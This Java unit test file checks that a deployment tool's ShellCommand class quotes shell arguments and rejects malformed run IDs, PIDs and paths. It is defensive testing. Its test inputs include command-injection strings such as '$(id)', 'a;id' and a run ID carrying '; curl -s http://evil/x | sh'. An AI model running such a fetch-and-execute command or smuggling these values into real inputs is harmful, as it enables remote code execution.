package dev.citusdeploy.model;

import static org.assertj.core.api.Assertions.assertThat;

import dev.citusdeploy.LocalPrograms;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class ShellCommandTest {
  @Test
  void leavesWordsAloneThatAShellTakesAsTheyAre() {
    assertThat(ShellCommand.of("docker logs --tail 100").word("shop-pg-w1"))
        .hasToString("docker logs --tail 100 shop-pg-w1");
    assertThat(ShellCommand.of("ls -l").word("/srv/my files").inline())
        .isEqualTo("`ls -l '/srv/my files'`");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a b",
        "$(id)",
        "a;id",
        "it's",
        "\"",
        "`id`",
        "a\nb",
        "\u001b[31m",
        "",
        "\\",
        "é🙂"
      })
  void aShellReadsBackWhatWasGiven(String word) throws IOException, InterruptedException {
    for (ShellCommand command :
        List.of(
            ShellCommand.of("printf %s").word(word),
            ShellCommand.of("printf %s").sentence(word),
            ShellCommand.of("bash -c").command(ShellCommand.of("printf %s").word(word)))) {
      assertThat(command.toString().codePoints()).noneMatch(ForeignText::isHarmful);
      Process shell =
          LocalPrograms.process("bash", "-c", command.toString()).redirectErrorStream(true).start();
      assertThat(new String(shell.getInputStream().readAllBytes(), StandardCharsets.UTF_8))
          .isEqualTo(word);
      shell.waitFor();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "20261122-081500-3fa9; curl -s http://evil/x | sh",
        "20261122-081500-3fa9\n",
        "-rf",
        "",
        "RUN"
      })
  void leavesOutWhatIsNotOfTheFormThatItMustHave(String run) {
    assertThat(ShellCommand.of("citus-deploy lock release --id").foreign(ForeignForm.RUN_ID, run))
        .hasToString("citus-deploy lock release --id RUN");
    assertThat(ShellCommand.of("ps -fp").foreign(ForeignForm.PID, run)).hasToString("ps -fp PID");
  }

  @Test
  void takesValuesOfAKnownForm() {
    assertThat(
            ShellCommand.of("citus-deploy lock release --id")
                .foreign(ForeignForm.RUN_ID, "20261122-081500-3fa9"))
        .hasToString("citus-deploy lock release --id 20261122-081500-3fa9");
    assertThat(ShellCommand.of("mount -o remount,rw").foreign(ForeignForm.PATH, "/srv/a b"))
        .hasToString("mount -o remount,rw '/srv/a b'");
    assertThat(ShellCommand.of("df -h").foreign(ForeignForm.PATH, "/srv/$(id)"))
        .hasToString("df -h PATH");
  }
}
